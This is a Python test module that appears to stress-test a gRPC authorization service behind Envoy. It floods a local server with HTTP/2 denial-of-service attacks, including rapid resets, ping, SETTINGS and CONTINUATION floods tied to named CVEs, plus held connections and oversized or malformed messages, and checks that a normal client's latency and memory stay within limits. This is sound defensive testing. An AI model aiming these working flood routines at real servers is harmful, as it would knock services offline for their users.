"""The transport is guarded: hostile peers beside one normal client, each kind for some seconds, and what it feels.

Each attack runs in a process of its own and does one thing as fast as it is told. The normal client asks through a
connection of its own; its p99 is compared with what it was before the attacks.

gRPC's core takes in connections as long as there are more, and does nothing else meanwhile (seen with strace: 1,995 of
2,000 in one go; nothing sets how many). Of connections that all come at once, what counts is therefore the longest
wait, which must be shorter than Envoy's patience.
"""

from __future__ import annotations

import select
import socket
import struct
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import ExitStack, suppress
from typing import Final

import grpc

from tests.bench import messages
from tests.bench.servers import Service, allows
from tests.support.check_request import check_request
from tests.torture.figures import Figure, Stand, at_least, at_most, none_of
from tests.torture.wire import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RESET,
    SETTINGS,
    Calls,
    ask_steadily,
    beside,
    frame,
    greeted,
    headers,
)

NORMAL: Final = 100  # calls a second of the normal client
SECONDS: Final = 10.0  # an attack
TIMES: Final = 3.0  # how much slower the normal client's p99 may become
MORE_MB: Final = 100.0
_CHECK: Final = "/envoy.service.auth.v3.Authorization/Check"
_BATCH: Final = 50  # frames written at once
_OVERSIZED: Final = 2 * 1024 * 1024
_INITIAL_WINDOW_SIZE: Final = 4  # RFC 9113 section 6.5.2
_CALLS_HELD: Final = 100  # a connection
_BETWEEN_CALLS: Final = 0.002  # seconds
_CONNECTIONS: Final = 1_000  # a second
_PATIENCE: Final = 250.0  # ms; Envoy's, in envoy/*.yaml

Attack = Callable[[int, int, float], int]  # port, how many (a second, or at once), seconds → how many it became


def resets(port: int, rate: int, seconds: float) -> int:
    """Begin calls and take them back at once (CVE-2023-44487)."""
    block, cancelled = headers(port), struct.pack(">I", 8)

    def call(number: int) -> bytes:
        stream = 2 * number + 1
        return frame(HEADERS, END_HEADERS, stream, block) + frame(RESET, 0, stream, cancelled)

    return _pour(port, call, rate, seconds)


def pings(port: int, rate: int, seconds: float) -> int:
    """Ping, and wait for no answer (CVE-2019-9512)."""
    return _pour(port, lambda number: frame(PING, 0, 0, number.to_bytes(8)), rate, seconds)


def settings(port: int, rate: int, seconds: float) -> int:
    """Change the settings all the time (CVE-2019-9515)."""
    return _pour(port, lambda _: frame(SETTINGS, 0, 0, b""), rate, seconds)


def continuations(port: int, rate: int, seconds: float) -> int:
    """Begin headers that never end (CVE-2024-27316)."""

    def part(number: int) -> bytes:
        start = number % 1000 == 0
        name = b"\x00\x05x-" + b"%03d" % (number % 1000) + b"\x7f\x81\x07" + 1024 * b"a"
        return frame(HEADERS if start else CONTINUATION, 0, 2 * (number // 1000) + 1, name)

    return _pour(port, part, rate, seconds)


def unknown_methods(port: int, rate: int, seconds: float) -> int:
    """Call what there is not."""
    block, empty = headers(port, "/envoy.service.auth.v3.Authorization/Chek"), b"\0\0\0\0\0"

    def call(number: int) -> bytes:
        stream = 2 * number + 1
        return frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, empty)

    return _pour(port, call, rate, seconds)


def long_headers(port: int, rate: int, seconds: float) -> int:
    """Send headers of 60 KB."""
    more = {f"x-{number}": 6_000 * "a" for number in range(10)}
    block = headers(port, **more)

    def call(number: int) -> bytes:
        stream, parts = 2 * number + 1, [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
        frames = [frame(HEADERS, 0, stream, parts[0]), *(frame(CONTINUATION, 0, stream, part) for part in parts[1:-1])]
        return b"".join(frames) + frame(CONTINUATION, END_HEADERS, stream, parts[-1])

    return _pour(port, call, rate, seconds)


def invalid_text(port: int, rate: int, seconds: float) -> int:
    """Send CheckRequests with texts that are no UTF-8; gives how many were not denied."""
    good = check_request(path="/a-text-of-bytes").SerializeToString()
    bad = good.replace(b"/a-text-of-bytes", b"/a-text-\xff\xfe-bytes"[:16].ljust(16, b"\xff"))
    calls = ask_steadily(port, [messages.prefixed(bad)], rate=rate, seconds=seconds)
    return calls.allowed


def oversized(port: int, rate: int, seconds: float) -> int:
    """Send messages of 2 MB; gives how many were not refused by gRPC."""
    until, taken = time.monotonic() + seconds, 0
    options = [("grpc.max_send_message_length", -1), ("grpc.enable_http_proxy", 0)]
    with grpc.insecure_channel(f"127.0.0.1:{port}", options) as channel:
        check = channel.unary_unary(_CHECK)
        while time.monotonic() < until:
            try:
                check(bytes(_OVERSIZED), timeout=5)
                taken += 1
            except grpc.RpcError as error:
                taken += error.code() is not grpc.StatusCode.RESOURCE_EXHAUSTED  # type: ignore[attr-defined]
            time.sleep(1 / rate)
    return taken


def idle_connections(port: int, count: int, seconds: float) -> int:
    """Hold connections that say hello and nothing more."""
    return _hold(count, seconds, lambda: greeted(port))


def connections_at_once(port: int, count: int, seconds: float) -> int:
    """Hold as many, and open them as fast as one process can."""
    return _hold(count, seconds, lambda: greeted(port), rate=float("inf"))


def half_handshakes(port: int, count: int, seconds: float) -> int:
    """Hold connections that stop in the middle of HTTP/2's first words."""

    def begun() -> socket.socket:
        connection = socket.create_connection(("127.0.0.1", port), timeout=5)
        connection.sendall(PREFACE[:10])
        return connection

    return _hold(count, seconds, begun)


def silent_calls(port: int, count: int, seconds: float) -> int:
    """Hold calls whose message does not come."""
    return _hold_calls(port, count, seconds, frame(SETTINGS, 0, 0, b""), b"")


def untaken_answers(port: int, count: int, seconds: float) -> int:
    """Hold calls whose answer finds no room."""
    no_room = frame(SETTINGS, 0, 0, struct.pack(">HI", _INITIAL_WINDOW_SIZE, 0))
    return _hold_calls(port, count, seconds, no_room, messages.prefixed(check_request().SerializeToString()))


def _hold_calls(port: int, count: int, seconds: float, first: bytes, message: bytes) -> int:
    """Hold so many calls, on as few connections as may be."""
    block = headers(port)

    def connect() -> socket.socket:
        connection = greeted(port)
        connection.sendall(first)
        for stream in range(1, 2 * _CALLS_HELD, 2):
            begun = frame(HEADERS, END_HEADERS, stream, block)
            connection.sendall(begun + (frame(DATA, END_STREAM, stream, message) if message else b""))
            time.sleep(_BETWEEN_CALLS)  # held calls are the attack, and not their haste
        return connection

    return _CALLS_HELD * _hold(-(-count // _CALLS_HELD), seconds, connect)


def _hold(count: int, seconds: float, connect: Callable[[], socket.socket], rate: float = _CONNECTIONS) -> int:
    started, held = time.monotonic(), 0
    until = started + seconds
    with ExitStack() as stack:
        for number in range(count):
            time.sleep(max(0.0, started + number / rate - time.monotonic()))
            with suppress(OSError):
                stack.enter_context(connect())
                held += 1
        time.sleep(max(0.0, until - time.monotonic()))
    return held


def _pour(port: int, piece: Callable[[int], bytes], rate: int, seconds: float) -> int:
    """Write pieces at a rate. A server that hangs up is called again: number 0 comes first on every connection."""
    started, sent = time.monotonic(), 0
    batch = min(_BATCH, max(1, rate // 20))
    while time.monotonic() < started + seconds:
        with suppress(OSError), greeted(port) as connection:
            connection.recv(262_144)  # its settings. As long as they are not acknowledged, gRPC takes few streams
            connection.sendall(frame(SETTINGS, ACK, 0, b""))
            for number in range(0, 2**29, batch):
                connection.sendall(b"".join(map(piece, range(number, number + batch))))
                sent += batch
                time.sleep(max(0.0, started + sent / rate - time.monotonic()))
                _drain(connection)
                if time.monotonic() > started + seconds:
                    break
    return sent


def _drain(connection: socket.socket) -> None:
    """Read what has come and forget it. Raises ConnectionError when the other end is gone."""
    while select.select([connection], [], [], 0)[0]:  # a socket with a timeout waits, whatever the flags of recv say
        if not connection.recv(262_144):
            raise ConnectionError


ATTACKS: Final[Mapping[str, tuple[Attack, int]]] = {
    "connections at once": (connections_at_once, 2_000),  # first: in a new process, whose memory has yet to grow
    "rapid resets": (resets, 10_000),
    "idle connections": (idle_connections, 2_000),
    "half-open handshakes": (half_handshakes, 500),
    "calls without a message": (silent_calls, 1_000),
    "answers not taken": (untaken_answers, 1_000),
    "oversized messages": (oversized, 50),
    "unknown methods": (unknown_methods, 500),
    "invalid UTF-8": (invalid_text, 200),
    "CONTINUATION frames without end": (continuations, 5_000),
    "header blocks of 60 KB": (long_headers, 200),
    "pings": (pings, 5_000),
    "SETTINGS": (settings, 5_000),
}
# So many in all, and not a second.
_HELD: Final = (idle_connections, connections_at_once, half_handshakes, silent_calls, untaken_answers)
_MUST_BE_NONE: Final = frozenset({"oversized messages", "invalid UTF-8"})  # what got through


def torture(stand: Stand) -> Iterator[Figure]:
    """Give the figures of promise 9."""
    pool = messages.new_pool()
    message = messages.message(messages.reader(pool))
    seconds = max(2.0, SECONDS * min(1.0, stand.share))
    with Service(stand.folder / "service", pool) as service:
        ask_steadily(service.port, [message], rate=NORMAL, seconds=1)
        before = highest = service.resident_mb
        for what, (attack, rate) in ATTACKS.items():
            amount = max(10, stand.count(rate))
            # Just before, not once for all: what else the machine does must not count for or against an attack.
            normal = ask_steadily(service.port, [message], rate=NORMAL, seconds=max(2.0, seconds / 2))
            calls, done, resident_mb = attacked(service, message, attack, amount, seconds)
            highest = max(highest, resident_mb)
            stand.tell(f"    {what}: {done:,}; {resident_mb:.0f} MB; p99 before {normal.at(0.99):.1f} ms")
            yield from counted(what, calls, done)
            if what not in _MUST_BE_NONE:  # an attack that did not take place proves nothing
                least = amount * (1.0 if attack in _HELD else seconds) / 2
                yield at_least(f"{what} sent in {seconds:.0f} s", done, least)
            unit = "" if attack in _HELD else "/s"
            beside_what = f"of a normal client beside {amount:,} {what}{unit}"
            if attack is connections_at_once:
                yield at_most(f"longest wait {beside_what}", calls.at(1.0), _PATIENCE, "ms")
            else:
                yield at_most(f"p99 {beside_what}", calls.at(0.99), TIMES * normal.at(0.99), "ms")
        yield at_most("memory that all attacks together cost", highest - before, MORE_MB, "MB")
        yield none_of("crashes", int(not allows(service.port, message)), len(ATTACKS))


def attacked(service: Service, message: bytes, attack: Attack, rate: int, seconds: float) -> tuple[Calls, int, float]:
    """Attack, and ask as a normal client meanwhile: its calls, what the attack came to, MB in use in its midst."""
    with beside(attack, service.port, rate, seconds) as attacker:
        calls = ask_steadily(service.port, [message], rate=NORMAL, seconds=seconds / 2)
        resident_mb = service.resident_mb
        calls += ask_steadily(service.port, [message], rate=NORMAL, seconds=seconds / 2)
        return calls, attacker.result(), resident_mb


def counted(what: str, calls: Calls, done: int) -> Iterator[Figure]:
    """Give the figures that no clock of the machine can spoil."""
    yield none_of(f"normal calls not allowed beside {what}", calls.sent - calls.allowed + calls.lost, calls.sent)
    if what in _MUST_BE_NONE:
        yield Figure(f"{what} that were taken", f"{done}", "0", done == 0)
